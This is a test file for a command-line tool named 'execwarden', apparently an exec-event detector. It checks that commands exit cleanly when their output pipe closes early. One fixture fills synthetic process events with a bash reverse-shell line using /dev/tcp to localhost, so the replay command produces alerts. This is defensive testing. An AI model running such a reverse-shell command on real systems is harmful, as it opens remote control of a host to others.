/**
 * One-shot commands whose stdout reader goes away (`execwarden query … | head -1`): the built CLI
 * in its own process, its stdout a pipe this test closes. They must exit 0 with nothing on stderr,
 * no stack trace. A stdout that fails for another reason (/dev/full) is a failure: exit 1, one line.
 * Needs the built CLI: `npm run build:ts` first.
 */
import { spawn } from 'node:child_process';
import { closeSync, existsSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execEvent } from '../rules/support/exec-event.js';

const ROOT = resolve(import.meta.dirname, '../..');
const CLI = join(ROOT, 'bin/execwarden.js');

interface Outcome {
  code: number | null;
  signal: NodeJS.Signals | null;
  stderr: string;
  /** What was read from stdout before closing it. */
  lines: string[];
}

/**
 * Runs the CLI with its stdout on a pipe and closes the pipe's reading end after `readLines` lines
 * (0: at once, before the command writes anything).
 */
function runWithClosingReader(args: string[], readLines: number): Promise<Outcome> {
  return new Promise((resolvePromise, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    let stdout = '';
    const lines: string[] = [];
    child.stderr!.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const close = (): void => void child.stdout!.destroy();
    if (readLines === 0) close();
    else {
      child.stdout!.on('data', (chunk: Buffer) => {
        stdout += chunk.toString();
        let newline: number;
        while (lines.length < readLines && (newline = stdout.indexOf('\n')) !== -1) {
          lines.push(stdout.slice(0, newline));
          stdout = stdout.slice(newline + 1);
        }
        if (lines.length >= readLines) close();
      });
    }
    child.once('error', reject);
    child.once('exit', (code, signal) => resolvePromise({ code, signal, stderr, lines }));
  });
}

describe('one-shot commands when their stdout reader goes away', () => {
  const dir = mkdtempSync(join(tmpdir(), 'execwarden-epipe-'));
  const events = join(dir, 'events.ndjson');
  const shells = join(dir, 'shells.ndjson');

  beforeAll(() => {
    if (!existsSync(join(ROOT, 'dist/src/cli/main.js'))) throw new Error('the CLI is not built: run `npm run build:ts` first');
    // Far more than a pipe buffer (64 KiB), so the command is still writing when the reader leaves.
    writeFileSync(events, Array.from({ length: 20_000 }, (_, i) => JSON.stringify(execEvent({ name: 'ls', pid: 10_000 + i, args: ['ls', '-la', `/tmp/${i}`] }))).join('\n') + '\n');
    writeFileSync(
      shells,
      Array.from({ length: 5_000 }, (_, i) => JSON.stringify(execEvent({ name: 'setsid', pid: 10_000 + i, args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/9 0>&1 #${i}`] }))).join('\n') + '\n',
    );
  });

  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('query exits 0, silently, after the reader took one line', async () => {
    const outcome = await runWithClosingReader(['query', 'process where process.name == "ls"', events], 1);
    expect(outcome.lines).toHaveLength(1);
    expect((JSON.parse(outcome.lines[0]!) as { process: { pid: number } }).process.pid).toBe(10_000);
    expect(outcome).toMatchObject({ code: 0, signal: null, stderr: '' });
  });

  it('replay exits 0, silently, after the reader took one alert', async () => {
    const outcome = await runWithClosingReader(['replay', shells], 1);
    expect(outcome.lines).toHaveLength(1);
    expect((JSON.parse(outcome.lines[0]!) as { event: { kind: string } }).event.kind).toBe('alert');
    expect(outcome).toMatchObject({ code: 0, signal: null, stderr: '' });
  });

  it.each([
    ['query', ['query', 'process where true', events]],
    ['replay', ['replay', shells]],
    ['rules list --json', ['rules', 'list', '--json']],
    ['rules list', ['rules', 'list']],
    ['rules validate', ['rules', 'validate']],
    ['--help', ['--help']],
  ])('%s exits 0, silently, when the reader is gone before the first line', async (_name, args) => {
    const outcome = await runWithClosingReader(args, 0);
    expect(outcome).toMatchObject({ code: 0, signal: null, stderr: '' });
  });

  it('a stdout that fails otherwise (a full device) is a failure: exit 1 with one line, no stack trace', async () => {
    const full = openSync('/dev/full', 'w');
    try {
      const outcome = await new Promise<{ code: number | null; stderr: string }>((resolvePromise, reject) => {
        const child = spawn(process.execPath, [CLI, 'rules', 'list', '--json'], { stdio: ['ignore', full, 'pipe'] });
        let stderr = '';
        child.stderr!.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
        child.once('error', reject);
        child.once('exit', (code) => resolvePromise({ code, stderr }));
      });
      expect(outcome.code).toBe(1);
      expect(outcome.stderr).toBe('execwarden: cannot write to standard output: ENOSPC: no space left on device, write [OUTPUT_WRITE_FAILED]\n');
    } finally {
      closeSync(full);
    }
  });
});
